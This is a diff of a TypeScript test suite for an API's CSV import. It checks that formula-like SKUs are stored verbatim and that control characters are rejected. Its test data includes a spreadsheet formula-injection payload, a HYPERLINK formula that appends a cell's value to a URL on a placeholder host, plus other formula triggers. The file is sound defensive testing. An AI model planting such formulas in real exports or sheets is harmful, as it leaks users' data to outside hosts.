@@ -4,9 +4,6 @@ import { snapshotStore } from '../support/store-snapshot.js';
 import { suiteServer } from '../support/suite-server.js';
 import type { Import } from '../../src/contract/imports.js';
 
-/** An import as the API answers it. */
-type ImportBody = Import;
-
 /** SKUs a spreadsheet would run as formulas, and ones that only look like neutralised cells. */
 const HOSTILE_SKUS = ['=HYPERLINK("https://x.invalid/?"&A2,"open")', "'=X", "''+X", '@x', '-1', '+1', '=1+1', "'plain", 'A=B'];
 
@@ -23,12 +20,16 @@ const field = (text: string) => (/[",\r\n]/.test(text) ? `"${text.replaceAll('"'
 describe.each(await enginesUnderTest())('neutralised cells and control characters in CSV imports on %s', (engine) => {
   const suite = suiteServer(engine, { catalogs: true });
 
-  async function imported(csv: string, query: string): Promise<ImportBody> {
-    const response = await suite.api.request('POST', `/v1/imports${query}`, { token: suite.tenant.token, rawBody: csv, headers: { 'content-type': 'text/csv' } });
+  async function imported(csv: string, query: string): Promise<Import> {
+    const response = await suite.api.request('POST', `/v1/imports${query}`, {
+      token: suite.tenant.token,
+      rawBody: csv,
+      headers: { 'content-type': 'text/csv' },
+    });
     expect(response.status, response.text).toBe(202);
     const deadline = Date.now() + 30_000;
     for (;;) {
-      const current = (await suite.api.request('GET', `/v1/imports/${(response.body as { id: number }).id}`, { token: suite.tenant.token })).body as ImportBody;
+      const current = (await suite.api.request('GET', `/v1/imports/${(response.body as { id: number }).id}`, { token: suite.tenant.token })).body as Import;
       if (current.status === 'succeeded' || current.status === 'failed') return current;
       if (Date.now() > deadline) throw new Error(`import still ${current.status} after 30 s`);
       await new Promise((resolve) => setTimeout(resolve, 50));
@@ -37,7 +38,10 @@ describe.each(await enginesUnderTest())('neutralised cells and control character
 
   it('takes one quote off a neutralised cell, in both formats and in dry runs: the prices land on the SKUs as they are', async () => {
     const token = suite.tenant.token;
-    const product = await suite.api.request('POST', '/v1/products', { token, body: { title: 'Formulas', price: 1, variations: HOSTILE_SKUS.map((sku) => ({ sku })) } });
+    const product = await suite.api.request('POST', '/v1/products', {
+      token,
+      body: { title: 'Formulas', price: 1, variations: HOSTILE_SKUS.map((sku) => ({ sku })) },
+    });
     expect(product.status, product.text).toBe(201);
     const customer = suite.catalog.tradeCustomer;
     const long = ['customer_id,sku,price', ...HOSTILE_SKUS.map((sku, index) => `${customer},${field(written(sku))},${index + 1}`)].join('\r\n');
@@ -46,7 +50,10 @@ describe.each(await enginesUnderTest())('neutralised cells and control character
     expect([dryRun.status, dryRun.errors, dryRun.result]).toEqual(['succeeded', [], { created: HOSTILE_SKUS.length, deleted: 0, unchanged: 0 }]);
     const applied = await imported(long, '?mode=replace');
     expect([applied.status, applied.result]).toEqual(['succeeded', { created: HOSTILE_SKUS.length, deleted: 0, unchanged: 0 }]);
-    const prices = (await suite.api.request('GET', `/v1/trade-customer-product-prices?customerId=${customer}&count=100`, { token })).body as Array<{ sku: string; price: number }>;
+    const prices = (await suite.api.request('GET', `/v1/trade-customer-product-prices?customerId=${customer}&count=100`, { token })).body as Array<{
+      sku: string;
+      price: number;
+    }>;
     expect(prices.map(({ sku, price }) => [sku, price])).toEqual(HOSTILE_SKUS.map((sku, index) => [sku, index + 1]));
 
     // The matrix: the same SKUs, the other trade customer's column; a replace of the same file again changes nothing.
@@ -78,12 +85,17 @@ describe.each(await enginesUnderTest())('neutralised cells and control character
       { row: 4, field: 'price', message: "must be a price: digits with at most 4 decimals after a point, below 1000000000, got '-0'" },
       { row: 5, field: 'sku', message: `must not contain control characters (U+001B at position ${skus.mug.length + 1})` },
       { row: 6, field: 'sku', message: 'must not contain control characters (U+009B at position 1)' },
-      { row: 7, field: 'sku', message: "must not contain control characters (U+001B at position 2)" },
+      { row: 7, field: 'sku', message: 'must not contain control characters (U+001B at position 2)' },
     ]);
     const matrix = await imported(`sku,${customer}\n${skus.tee}\u0007,1\n${skus.mug},2\n`, '?mode=add&dryRun=true');
-    expect([matrix.status, matrix.errors]).toEqual(['failed', [{ row: 2, field: 'sku', message: `must not contain control characters (U+0007 at position ${skus.tee.length + 1})` }]]);
+    expect([matrix.status, matrix.errors]).toEqual([
+      'failed',
+      [{ row: 2, field: 'sku', message: `must not contain control characters (U+0007 at position ${skus.tee.length + 1})` }],
+    ]);
     const after = await snapshotStore(suite.server.services.database, suite.tenant.storeId);
-    // Only the imports themselves were recorded (and their events).
-    for (const table of Object.keys(before).filter((name) => !['imports', 'events', 'import_files', 'import_rows'].includes(name))) expect(after[table], table).toEqual(before[table]);
+    // Only the imports themselves were recorded (and their events); an earlier import's file
+    // slices may be cleared meanwhile, once it has ended.
+    for (const table of Object.keys(before).filter((name) => !name.startsWith('import') && name !== 'events'))
+      expect(after[table], table).toEqual(before[table]);
   });
 });
